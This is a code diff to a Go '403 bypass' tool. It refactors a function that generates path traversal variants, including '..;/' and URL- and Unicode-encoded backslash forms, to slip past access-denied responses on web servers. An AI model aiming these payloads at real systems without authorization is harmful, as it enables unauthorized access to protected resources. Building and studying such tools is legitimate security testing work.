@@ -1,26 +1,19 @@
 package bypass
 
 import (
-	"net/http"
-	"net/url"
-	"path/filepath"
 	"strings"
 )
 
 // TestPathTraversal tests various path traversal techniques to bypass 403 responses
-func TestPathTraversal(baseURL string, client *http.Client, config Config) ([]Result, error) {
-	var results []Result
-	parsedURL, err := url.Parse(baseURL)
+func TestPathTraversal(baseURL string, config Config) ([]Attempt, error) {
+	var attempts []Attempt
+	origin, originalPath, query, err := splitTarget(baseURL)
 	if err != nil {
-		return results, err
+		return attempts, err
 	}
 
 	// Extract base directory and target path
-	paths := strings.Split(parsedURL.Path, "/")
-	var targetPath string
-	if len(paths) > 0 {
-		targetPath = paths[len(paths)-1]
-	}
+	targetPath := lastSegment(originalPath)
 
 	traversals := []string{
 		"..;/" + targetPath,
@@ -51,46 +44,35 @@ func TestPathTraversal(baseURL string, client *http.Client, config Config) ([]Re
 		"..%u2216" + targetPath, // Unicode backslash
 	}
 
-	// Get the directory part of the path
-	dirPath := filepath.Dir(parsedURL.Path)
-	if dirPath == "." {
-		dirPath = "/"
-	}
+	// Get the directory part of the path, keeping it exactly as written
+	dirPath := parentDir(originalPath)
 
-	for _, traversal := range traversals {
-		manipulatedURL := *parsedURL
+	// Positions often coincide for top-level paths, so only send each target once
+	seen := make(map[string]bool)
 
+	for _, traversal := range traversals {
 		// Try different positions for the traversal
-		manipulatedURLs := []string{
-			traversal,                 // Direct replacement
+		manipulatedPaths := []string{
+			"/" + traversal,           // Direct replacement
 			dirPath + "/" + traversal, // Append to directory
-			strings.Replace(parsedURL.Path, targetPath, traversal, 1), // Replace target
+			strings.Replace(originalPath, targetPath, traversal, 1), // Replace target
 		}
 
-		for _, manipulatedURLPath := range manipulatedURLs {
-			manipulatedURL.Path = manipulatedURLPath
-
-			req, err := http.NewRequest("GET", manipulatedURL.String(), nil)
-			if err != nil {
+		for _, manipulatedPath := range manipulatedPaths {
+			target := withQuery(manipulatedPath, query)
+			if seen[target] {
 				continue
 			}
+			seen[target] = true
 
-			req.Header.Set("User-Agent", config.UserAgent)
-
-			resp, err := client.Do(req)
+			req, err := newRequest(config.method(), origin, target, config)
 			if err != nil {
 				continue
 			}
-			resp.Body.Close()
 
-			results = append(results, Result{
-				URL:        manipulatedURL.String(),
-				StatusCode: resp.StatusCode,
-				Method:     "GET",
-				Technique:  "Path Traversal",
-			})
+			attempts = append(attempts, Attempt{Request: req, Technique: "Path Traversal"})
 		}
 	}
 
-	return results, nil
+	return attempts, nil
 }